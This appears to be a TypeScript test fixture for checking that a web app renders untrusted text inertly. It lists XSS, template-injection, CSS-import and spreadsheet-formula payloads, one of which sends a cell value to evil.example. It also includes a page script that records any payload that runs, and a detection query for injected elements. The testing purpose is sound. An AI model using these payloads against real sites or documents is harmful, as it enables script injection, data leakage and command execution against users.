/** Texts that would run, or do harm elsewhere, where they were taken for more than text. Each says what ran. */
export const SCRIPTS: readonly string[] = [
  '<script>ran("script")</script>',
  '"><img src=x onerror=ran("image")>',
  "'-ran('apostrophe')-'",
  '<svg/onload=ran("svg")><animate onbegin=ran("animate") attributeName=x dur=1s>',
  'javascript:ran("link")',
  ' jAvA\tscript:ran("crooked link")',
  'data:text/html,<script>parent.ran("data")</script>',
  '[a link](javascript:ran("markdown")) <javascript:ran("angle")>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it must not be one.
  '{{constructor.constructor("ran(1)")()}} ${ran("template")} <%= ran("erb") %>',
  '{"__html":"<img src=x onerror=ran(2)>","dangerouslySetInnerHTML":{"__html":"<b>"},"$$typeof":"x"}',
  '<iframe srcdoc="<script>parent.ran(3)</script>"></iframe><base href="https://evil.example/">',
  '</title></textarea></style><style>@import "https://evil.example/x.css";*{display:none}</style>',
  '\u202e<img src=x onerror=ran("turned")>\u202c \ufeff\u200b\uff1cscript\uff1eran(4)\uff1c/script\uff1e \ud83d',
  '=HYPERLINK("https://evil.example/?"&A1,"open") +cmd|\'/c calc\'!A0 @SUM(1) -2+3',
  '<a href="javascript:ran(5)" onmouseover=ran(6) autofocus onfocus=ran(7) tabindex=0>over</a>',
  '<x onclick=ran(8)>',
];

/** Runs in the page before anything of it: notes whatever runs that should not, and whatever was kept from running. */
export const WATCH = `
  window.troubles = [];
  window.ran = (what) => { window.troubles.push('ran: ' + what); };
  for (const name of ['alert', 'confirm', 'prompt']) window[name] = () => { window.troubles.push(name); };
  addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sample }) => {
    window.troubles.push('policy: ' + violatedDirective + ' ' + blockedURI + ' ' + sample);
  });`;

/** What stands in the page that only markup in a text could have put there. */
export const INTRUDERS = `[...document.querySelectorAll('*')].flatMap((element) => [
  ...(['IFRAME', 'BASE', 'OBJECT', 'EMBED', 'ANIMATE', 'X'].includes(element.tagName.toUpperCase()) ? [element.outerHTML.slice(0, 200)] : []),
  ...[...element.attributes].filter(({ name, value }) =>
    /^on/.test(name) || (/^(href|src|action|formaction|xlink:href)$/.test(name) && /^[\\s\\u0000-\\u001f]*(javascript|data|vbscript):/i.test(value)))
    .map(({ name, value }) => element.tagName + ' ' + name + '=' + value.slice(0, 100)),
])`;
